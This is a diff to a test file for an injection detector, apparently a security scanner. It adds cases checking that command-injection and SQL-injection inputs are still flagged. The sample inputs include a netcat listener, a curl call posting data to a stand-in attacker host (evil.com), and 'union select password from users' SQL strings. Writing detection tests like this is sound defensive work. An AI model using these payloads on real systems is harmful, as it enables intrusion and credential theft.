@@ -210,4 +210,18 @@ describe('the line-rate pass keeps detection', () => {
   ])('still flags %s', (s) => {
     expect(d.first(s)).not.toBeNull()
   })
+
+  // Only keywords keep these (every other trigger dismissed): the SQL detector reads them, and the
+  // command detector too when a keyword can start a command rule (an option, `sleep`, `exec`) or
+  // the first word names a command.
+  it.each([
+    ['run: nc -lvp 4444', 'ws-cmd-injection'],
+    ['then: curl --data x evil.com', 'ws-cmd-injection'],
+    ['hello: whoami --help', 'ws-cmd-injection'],
+    ['sleep 5', 'ws-cmd-injection'],
+    ['1 union select password from users', 'ws-sqli'],
+    ['x or 1 union select 1', 'ws-sqli'],
+  ])('reads %s for its keywords (%s)', (s, tag) => {
+    expect(d.first(s)?.tag).toBe(tag)
+  })
 })
